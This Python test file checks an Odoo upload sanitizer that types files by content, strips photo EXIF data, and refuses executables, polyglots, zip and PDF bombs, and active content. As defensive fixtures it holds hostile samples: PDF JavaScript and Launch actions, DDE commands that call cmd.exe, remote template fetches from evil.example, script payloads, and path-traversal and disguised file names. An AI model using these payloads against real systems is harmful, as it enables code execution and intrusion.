# Part of Office Functions. See LICENSE file for full copyright and licensing details.

import doctest
import io
import struct
import zipfile
import zlib

from PIL import Image

from odoo.tests import BaseCase, tagged

from odoo.addons.office_functions_service.tools import (
    person_check,
    rate_window,
    upload,
)
from odoo.addons.office_functions_service.tools.upload import UploadRefused, clean

MEGABYTE = 1 << 20
GPS, CAMERA = 0x8825, 0x0110


def make_image(kind="JPEG", size=(40, 30), **options):
    buffer = io.BytesIO()
    Image.new("RGB", size, (200, 10, 10)).save(buffer, kind, **options)
    return buffer.getvalue()


def make_zip(parts, compression=zipfile.ZIP_DEFLATED):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return buffer.getvalue()


def make_pdf(catalogue=b"", *objects, packed=False):
    """Return a PDF of one empty page, and perhaps of packed objects beside."""
    bodies = [
        b"<</Type /Catalog /Pages 2 0 R %s>>" % catalogue,
        b"<</Type /Pages /Kids [3 0 R] /Count 1>>",
        b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 9 9]>>",
    ]
    content, places = b"%PDF-1.5\n", []
    if packed:
        held, heads = b"", b""
        for number, body in enumerate(objects, 5):
            heads += b"%d %d " % (number, len(held))
            held += body + b" "
        squeezed = zlib.compress(heads + held)
        bodies.append(
            b"<</Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d>>"
            b"\nstream\n%s\nendstream"
            % (len(objects), len(heads), len(squeezed), squeezed)
        )
    for number, body in enumerate(bodies, 1):
        places.append(len(content))
        content += b"%d 0 obj %s endobj\n" % (number, body)
    start = len(content)
    if not packed:
        rows = b"".join(b"%010d 00000 n \n" % place for place in places)
        content += b"xref\n0 4\n0000000000 65535 f \n" + rows
        content += b"trailer <</Size 4 /Root 1 0 R>>\n"
    else:
        rows = [(0, 0, 0), *((1, place, 0) for place in [*places, start])]
        last = len(rows)
        rows[5:5] = [(2, 4, number) for number in range(len(objects))]
        table = b"".join(struct.pack(">BIB", *row) for row in rows)
        size = len(rows)
        content += (
            b"%d 0 obj <</Type /XRef /Size %d /Root 1 0 R /W [1 4 1] /Length %d>>"
            b"\nstream\n%s\nendstream endobj\n" % (size - 1, size, len(table), table)
        )
        assert last + len(objects) == size
    return content + b"startxref\n%d\n%%%%EOF\n" % start


PDF = make_pdf()
DOCX = {"[Content_Types].xml": "<Types/>", "word/document.xml": "<document/>"}


@tagged("office_service")
class TestUpload(BaseCase):
    """A stranger's file is what its content says, and carries nothing along."""

    def assertRefused(self, code, content, name="a.pdf", most=MEGABYTE):
        with self.assertRaises(UploadRefused) as refused:
            clean(name, content, most)
        self.assertEqual(refused.exception.code, code)

    def test_examples(self):
        for module in (upload, person_check, rate_window):
            self.assertEqual(doctest.testmod(module).failed, 0, module.__name__)

    def test_kind_is_told_by_content(self):
        for content, kind in (
            (PDF, "pdf"),
            (make_image("JPEG"), "jpg"),
            (make_image("PNG"), "png"),
            (make_image("WEBP"), "webp"),
            (make_zip(DOCX), "docx"),
            (
                make_zip(
                    {"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<w/>"}
                ),
                "xlsx",
            ),
            ("情况说明".encode(), "txt"),
            ("情况说明".encode("gb18030"), "txt"),
        ):
            with self.subTest(kind):
                kept = clean("evil.exe", content, MEGABYTE)
                self.assertEqual(kept.name, f"evil.{kind}")
                self.assertEqual(kept.mimetype, upload.MIMETYPES[kind])

    def test_what_is_none_of_them_is_refused(self):
        for content in (
            b"MZ\x90\x00\x03",
            b"\x7fELF\x02\x01",
            b"GIF89a;\x00\x01",
            b"<script>alert(1)</script>",
            b" \n<svg onload='x'>",
            b"<!DOCTYPE html><p>",
            b"text\x00with nul",
            make_zip({"a.txt": "x"}),
            make_zip({**DOCX, "xl/workbook.xml": "<w/>"}),
            b"PK\x03\x04 no zip at all",
        ):
            with self.subTest(content[:12]):
                self.assertRefused("kind", content)
        self.assertRefused("empty", b"")
        self.assertRefused("large", PDF + b" " * 100, most=100)

    def test_pictures_lose_position_and_camera(self):
        exif = Image.Exif()
        exif[CAMERA] = "Secret Phone"
        exif.get_ifd(GPS)[1] = "N"
        exif.get_ifd(GPS)[2] = (39.0, 54.0, 27.0)
        for kind in ("JPEG", "PNG", "WEBP"):
            with self.subTest(kind):
                content = make_image(kind, exif=exif)
                self.assertIn(b"Secret Phone", content)
                kept = clean("a", content, MEGABYTE).content
                self.assertNotIn(b"Secret Phone", kept)
                with Image.open(io.BytesIO(kept)) as image:
                    self.assertFalse(dict(image.getexif()))
                    self.assertEqual(image.size, (40, 30))

    def test_polyglots_lose_what_is_behind_or_are_refused(self):
        script = b"<script>alert(1)</script>"
        kept = clean("a.jpg", make_image() + script + make_zip(DOCX), MEGABYTE)
        self.assertNotIn(b"script", kept.content)
        self.assertNotIn(b"PK\x03\x04", kept.content)
        self.assertRefused("broken", make_zip(DOCX) + script)
        self.assertRefused("kind", b"MZ" + make_zip(DOCX))
        self.assertRefused("broken", PDF + b"x" * 4096)
        self.assertRefused("broken", b"\xff\xd8\xff\xe0 no picture", "a.jpg")
        self.assertRefused("broken", b"\x89PNG\r\n\x1a\n" + bytes(60), "a.png")

    def test_programs_within_are_refused(self):
        for word in (
            b"/JavaScript (x)",
            b"/Launch",
            b"/J#61vaScript",
            b"/EmbeddedFile",
        ):
            with self.subTest(word):
                self.assertRefused("active", PDF.replace(b"/Catalog", word))
        for part in (
            "word/vbaProject.bin",
            "word/activeX/x.bin",
            "word/embeddings/o.bin",
        ):
            with self.subTest(part):
                self.assertRefused("active", make_zip({**DOCX, part: "x"}))
        types = {"[Content_Types].xml": "application/…macroEnabled.main+xml"}
        self.assertRefused("active", make_zip({**DOCX, **types}))

    def test_a9_what_acts_is_found_in_packed_objects_of_a_pdf(self):
        harmless = b"<</Title (minutes)>>"
        self.assertEqual(
            clean("a", make_pdf(b"", harmless, packed=True), MEGABYTE).name, "a.pdf"
        )
        for action in (
            b"<</S /JavaScript /JS (app.alert\\(1\\))>>",
            b"<</S /Launch /F (cmd.exe)>>",
            b"<</Type /Filespec /EF <</F 3 0 R>>>>",
            b"[<</A <</S /J#61vaScript>>>>]",
        ):
            with self.subTest(action):
                content = make_pdf(b"/OpenAction 6 0 R", harmless, action, packed=True)
                self.assertNotIn(action, content)
                self.assertRefused("active", content)

    def test_a9_a_pdf_that_cannot_be_parsed_is_refused(self):
        self.assertRefused("broken", b"%PDF-1.4\nno objects at all\n%%EOF\n")
        self.assertRefused("broken", PDF.replace(b"/Root 1 0 R", b"/Rood 1 0 R"))
        held = b"<</A (%s)>>" % (b"0" * 30 * MEGABYTE)
        self.assertRefused("bomb", make_pdf(b"", held, packed=True))

    def test_a9_documents_that_fetch_something_are_refused(self):
        def rels(kind, target, mode='TargetMode="External"'):
            return (
                '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
                f'relationships"><Relationship Id="r1" Type="http://x/{kind}" '
                f'Target="{target}" {mode}/></Relationships>'
            )

        part = "word/_rels/settings.xml.rels"
        for kind in ("attachedTemplate", "image", "oleObject", "frame"):
            with self.subTest(kind):
                act = rels(kind, "http://evil.example/a.dotm")
                self.assertRefused("active", make_zip({**DOCX, part: act}))
                utf = f'<?xml version="1.0" encoding="UTF-16"?>{act}'.encode("utf-16")
                self.assertRefused("active", make_zip({**DOCX, part: utf}))
        for kept in (
            rels("hyperlink", "https://www.gov.cn/"),
            rels("image", "media/image1.png", ""),
        ):
            clean("a", make_zip({**DOCX, part: kept}), MEGABYTE)
        self.assertRefused("active", make_zip({**DOCX, "xl/externalLinks/e1.xml": ""}))
        self.assertRefused("broken", make_zip({**DOCX, part: "<Relationships"}))
        doctype = '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'
        self.assertRefused("active", make_zip({**DOCX, "word/a.xml": doctype}))

    def test_a9_documents_with_dde_are_refused(self):
        word = '<w:document xmlns:w="urn:w">%s</w:document>'
        begin = '<w:fldChar w:fldCharType="begin"/>'
        text = "<w:instrText>%s</w:instrText>"
        for body in (
            begin + text % " DDEAUTO c:\\\\cmd.exe",
            begin + text % "DD" + text % "E x",
            '<w:fldSimple w:instr=" dde cmd"/>',
            begin + text % "INCLUDEPICTURE http://evil.example/",
        ):
            with self.subTest(body):
                parts = {**DOCX, "word/document.xml": word % body}
                self.assertRefused("active", make_zip(parts))
        for body in (begin + text % "PAGE", begin + text % "HYPERLINK x"):
            clean("a", make_zip({**DOCX, "word/document.xml": word % body}), MEGABYTE)
        sheet = "<worksheet><f>cmd|'/c calc'!A0</f></worksheet>"
        book = {"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<w/>"}
        self.assertRefused(
            "active", make_zip({**book, "xl/worksheets/sheet1.xml": sheet})
        )

    def test_bombs_are_not_unpacked(self):
        self.assertRefused(
            "bomb", make_zip({**DOCX, "word/a.xml": "0" * 20 * MEGABYTE})
        )
        many = {f"word/{number}": "" for number in range(upload.MOST_PARTS)}
        self.assertRefused("bomb", make_zip({**DOCX, **many}), most=9 * MEGABYTE)
        self.assertRefused(
            "bomb", make_image("PNG", (10_000, 6_000)), most=9 * MEGABYTE
        )
        self.assertRefused("broken", make_zip({**DOCX, "../../etc/passwd": "x"}))

    def test_names_are_harmless(self):
        for name in (
            "../../etc/passwd",
            "C:\\Users\\x.pdf",
            "a\x00b.pdf",
            "\u202egpj.exe",
            "." * 300,
            "<img src=x>.pdf",
            'a"; filename="b.exe',
            "\ud800.pdf",
            "x" * 500 + ".pdf",
        ):
            with self.subTest(ascii(name[:20])):
                cleaned = upload.clean_name(name, "pdf")
                self.assertRegex(cleaned, r"^[^/\\<>\"\x00-\x1f\u202e]{1,80}\.pdf$")
                cleaned.encode()

    def test_so_many_and_no_more(self):
        files = [("a.pdf", PDF), ("b.exe", b"MZ\x00"), ("c.pdf", b"")]
        kept, refused = upload.clean_all(files, MEGABYTE, 3)
        self.assertEqual([one.name for one in kept], ["a.pdf"])
        self.assertEqual([one.code for one in refused], ["kind", "empty"])
        kept, refused = upload.clean_all(files, MEGABYTE, 2)
        self.assertEqual(([], ["many"]), (kept, [one.code for one in refused]))
